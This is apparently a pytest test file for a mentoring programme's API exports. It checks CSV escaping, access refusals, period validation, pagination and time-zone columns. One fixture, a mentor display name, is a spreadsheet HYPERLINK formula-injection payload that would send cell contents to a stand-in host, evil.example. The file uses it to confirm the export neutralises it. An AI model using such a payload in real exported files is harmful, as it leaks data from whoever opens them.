"""A programme's exports through the API: its coordinators download the pairs, sessions and survey answers as CSV
(read back by Python's csv module: a BOM first, formula-looking cells made harmless, a safe file name) and read the
same rows as JSON pages whose cursors walk every row once; anyone else is refused before a byte of a file is sent,
and a period out of bounds is a 422."""

from __future__ import annotations

import codecs
import csv
import io
import re
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

from flask.testing import FlaskClient
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from models import AdminAction, Booking, Pairing, PairingStatus, User
from tests.factories.accounts import Caller, UserFactory, as_caller
from tests.factories.programmes import BASE, joined, running_programme
from workflows.pagination import encode_cursor
from workflows.sessions import lifecycle as sessions

MENTOR_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
TODAY = datetime.now(UTC).date()
PERIOD = {"from": TODAY.isoformat(), "to": (TODAY + timedelta(days=200)).isoformat()}


def _paired(client: FlaskClient, db: Session) -> tuple[Caller, Caller, Caller, dict[str, Any]]:
    """A programme's coordinator, mentor (named as a formula) and mentee, paired, its 12 sessions created."""
    coordinator, programme = running_programme(client)
    mentor, mentor_id = joined(client, coordinator, programme, "mentor")
    mentee, mentee_id = joined(client, coordinator, programme, "mentee")
    db.execute(update(User).where(User.id == mentor.user.id).values(display_name=MENTOR_NAME))
    pairing = client.post(f"{BASE}/{programme['id']}/pairings", headers=coordinator.headers, json={
        "mentor_participant_id": mentor_id, "mentee_participant_id": mentee_id}).get_json()
    assert client.post(f"/api/v1/booking-series/{pairing['series_id']}/accept",
                       headers=mentor.headers).status_code == 200
    for booking_id in db.scalars(select(Booking.id).where(Booking.series_id == uuid.UUID(pairing["series_id"]))):
        sessions.create_session_from_booking(db, booking_id)
    return coordinator, mentor, mentee, pairing


def _csv(client: FlaskClient, caller: Caller, programme_id: str, name: str) -> list[dict[str, str]]:
    answer = client.get(f"{BASE}/{programme_id}/exports/{name}.csv", headers=caller.headers, query_string=PERIOD)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(rf'attachment; filename="spring-cohort-{name}-{PERIOD["from"]}-{PERIOD["to"]}\.csv"',
                        answer.headers["Content-Disposition"])
    assert answer.data.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


def _walk(client: FlaskClient, caller: Caller, programme_id: str, name: str, limit: int) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    cursor = None
    for _ in range(50):
        page = client.get(f"{BASE}/{programme_id}/exports/{name}", headers=caller.headers,
                          query_string={**PERIOD, "limit": limit, **({"cursor": cursor} if cursor else {})})
        assert page.status_code == 200, page.get_json()
        rows += page.get_json()["items"]
        cursor = page.get_json()["next_cursor"]
        if cursor is None:
            return rows
    raise AssertionError("the cursors never ended")


def test_coordinators_download_sessions_and_pairs_as_csv_and_the_same_rows_as_json(client: FlaskClient,
                                                                                  db: Session) -> None:
    coordinator, _, mentee, pairing = _paired(client, db)
    programme_id = pairing["programme_id"]
    held = _csv(client, coordinator, programme_id, "sessions")
    assert len(held) == 12
    assert [row["start_time"] for row in held] == sorted(row["start_time"] for row in held)
    assert {row["mentor_name"] for row in held} == {f"'{MENTOR_NAME}"}
    assert {(row["pairing_id"], row["mentee_name"], row["status"], row["minutes"]) for row in held} == {
        (pairing["id"], mentee.user.display_name, "scheduled", "60")}
    walked = _walk(client, coordinator, programme_id, "sessions", limit=5)
    assert [row["session_id"] for row in walked] == [row["session_id"] for row in held]
    assert walked[0]["mentor_name"] == MENTOR_NAME  # JSON is data, not a spreadsheet: as it is
    (pair,) = _csv(client, coordinator, programme_id, "pairs")
    assert (pair["pairing_id"], pair["mentor_name"], pair["status"], pair["session_count"]) == (
        pairing["id"], f"'{MENTOR_NAME}", "proposed", "12")  # active once the worker follows the accept
    assert "mentor_email" not in pair and mentee.user.email not in str(pair)
    assert [row["pairing_id"] for row in _walk(client, coordinator, programme_id, "pairs", limit=1)] == [pairing["id"]]
    admin = as_caller(UserFactory(is_admin=True))
    assert len(_csv(client, admin, programme_id, "sessions")) == 12


def test_survey_answers_export_with_their_comments_made_harmless(client: FlaskClient, db: Session) -> None:
    coordinator, mentor, mentee, pairing = _paired(client, db)
    url = f"{BASE}/{pairing['programme_id']}/pairings/{pairing['id']}"
    assert client.post(f"{url}/end", headers=mentor.headers, json={}).status_code == 200
    for caller, comment in ((mentee, "+1 would pair again"), (mentor, "@SUM(A1) -2 hours")):
        assert client.post(f"{url}/survey", headers=caller.headers, json={"rating": 4, "comment": comment}
                           ).status_code == 200
    answers = _csv(client, coordinator, pairing["programme_id"], "surveys")
    assert sorted((row["role"], row["rating"], row["comment"]) for row in answers) == [
        ("mentee", "4", "'+1 would pair again"), ("mentor", "4", "'@SUM(A1) -2 hours")]
    walked = _walk(client, coordinator, pairing["programme_id"], "surveys", limit=1)
    assert sorted(row["comment"] for row in walked) == ["+1 would pair again", "@SUM(A1) -2 hours"]
    cancelled = _csv(client, coordinator, pairing["programme_id"], "sessions")
    assert {row["status"] for row in cancelled} == {"cancelled"}


def test_anyone_else_is_refused_before_any_of_the_file_is_sent(client: FlaskClient, db: Session) -> None:
    coordinator, mentor, mentee, pairing = _paired(client, db)
    programme_id = pairing["programme_id"]
    other_coordinator, _ = running_programme(client)
    for name in ("pairs.csv", "sessions.csv", "surveys.csv", "pairs", "sessions", "surveys"):
        url = f"{BASE}/{programme_id}/exports/{name}"
        for outsider in (other_coordinator, as_caller(UserFactory())):
            answer = client.get(url, headers=outsider.headers)
            assert (answer.status_code, answer.mimetype) == (404, "application/json"), (url, answer.status_code)
        for participant in (mentor, mentee):  # its own people: not its coordinators
            assert client.get(url, headers=participant.headers).status_code == 403
        assert client.get(url).status_code == 401
        assert client.get(f"{BASE}/{uuid.uuid4()}/exports/{name}", headers=coordinator.headers).status_code == 404


def test_a_period_out_of_bounds_and_a_bad_cursor_are_422(client: FlaskClient, db: Session) -> None:
    coordinator, programme = running_programme(client)
    url = f"{BASE}/{programme['id']}/exports"
    for period in ({"from": "2030-01-02", "to": "2030-01-01"}, {"from": "2030-01-01", "to": "2032-01-02"},
                   {"from": "1999-12-31"}, {"to": "2100-01-01"}, {"from": "yesterday"},
                   {"from": "2010-01-01"}):  # to today: longer than two years
        for name in ("sessions.csv", "pairs"):
            answer = client.get(f"{url}/{name}", headers=coordinator.headers, query_string=period)
            assert (answer.status_code, answer.mimetype) == (422, "application/json"), (name, period)
    assert client.get(f"{url}/sessions", headers=coordinator.headers,
                      query_string={"from": "2030-01-01", "to": "2031-12-31"}).status_code == 200  # 730 days
    for cursor in ("nonsense", encode_cursor(datetime(2030, 1, 1, tzinfo=UTC), "x")):
        for name in ("sessions", "surveys"):
            assert client.get(f"{url}/{name}", headers=coordinator.headers,
                              query_string={"cursor": cursor}).status_code == 422, (name, cursor)
    assert client.get(f"{url}/sessions", headers=coordinator.headers, query_string={"limit": 101}).status_code == 422


def test_participants_with_their_intake_answers_and_goals_export_and_a_reader_s_zone_adds_wall_clock_columns(
        client: FlaskClient, db: Session) -> None:
    """The two newer exports: participants (role, state, intake answers: personal data, so an admin's export is in the
    audit trail) and goals; the web app's download asks for the reader's zone, which adds a column after each time
    and leaves the UTC times as they are."""
    coordinator, _, mentee, pairing = _paired(client, db)
    programme_id = pairing["programme_id"]
    url = f"{BASE}/{programme_id}"
    form = client.put(f"{url}/intake-forms/mentee", headers=coordinator.headers, json={"items": [
        {"kind": "text", "label": "What do you want to work on?"},
        {"kind": "multiple", "label": "Topics", "options": ["Career", "Code review"]}]}).get_json()["items"]
    answered = client.put(f"{url}/intake", headers=mentee.headers, json={"windows": [], "answers": [
        {"question_id": form[0]["id"], "value": "=1+1 talks"}, {"question_id": form[1]["id"], "value": ["Career"]}]})
    assert answered.status_code == 200, answered.get_json()
    db.execute(update(Pairing).where(Pairing.id == uuid.UUID(pairing["id"])).values(status=PairingStatus.ACTIVE))
    goal = client.post(f"{url}/pairings/{pairing['id']}/goals", headers=mentee.headers, json={
        "title": "-5 kg of slides", "milestones": [{"title": "Outline"}]})
    assert goal.status_code == 201, goal.get_json()

    people = {row["role"]: row for row in _csv(client, coordinator, programme_id, "participants")}
    assert set(people) == {"mentor", "mentee"}
    assert (people["mentee"]["display_name"], people["mentee"]["status"]) == (mentee.user.display_name, "active")
    assert people["mentee"]["intake_answers"] == "What do you want to work on?: =1+1 talks\nTopics: Career"
    assert people["mentor"]["display_name"] == f"'{MENTOR_NAME}" and people["mentor"]["capacity"] == "2"
    assert mentee.user.email not in str(people)
    (walked,) = [row for row in _walk(client, coordinator, programme_id, "participants", limit=1)
                 if row["role"] == "mentee"]
    assert walked["intake_answers"][0]["value"] == "=1+1 talks"  # JSON is data: as given
    (set_goal,) = _csv(client, coordinator, programme_id, "goals")
    assert (set_goal["title"], set_goal["status"], set_goal["milestones"], set_goal["mentor_name"]) == (
        "'-5 kg of slides", "open", "[ ] Outline", f"'{MENTOR_NAME}")

    # In the reader's zone: the UTC time, then the same instant on Tokyo's clock.
    answer = client.get(f"{url}/exports/participants.csv", headers=coordinator.headers,
                        query_string={**PERIOD, "timezone": "Asia/Tokyo"})
    rows = list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    header = next(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert header[5:8] == ["joined_at", "joined_at (Asia/Tokyo)", "ended_at"]
    joined_at = datetime.fromisoformat(rows[0]["joined_at"])
    assert rows[0]["joined_at (Asia/Tokyo)"] == joined_at.astimezone(ZoneInfo("Asia/Tokyo")).strftime("%Y-%m-%d %H:%M")
    assert client.get(f"{url}/exports/goals.csv", headers=coordinator.headers,
                      query_string={"timezone": "Mars/Olympus"}).status_code == 422

    # Its own people are refused; an admin's export of the answers is in the audit trail, naming them.
    for name in ("participants.csv", "goals.csv", "participants", "goals"):
        assert client.get(f"{url}/exports/{name}", headers=mentee.headers).status_code == 403
        assert client.get(f"{url}/exports/{name}", headers=as_caller(UserFactory()).headers).status_code == 404
    admin = as_caller(UserFactory(is_admin=True))
    assert len(_csv(client, admin, programme_id, "participants")) == 2
    assert db.scalar(select(AdminAction.admin_user_id).where(
        AdminAction.action == "programme.exported_participants")) == admin.user.id
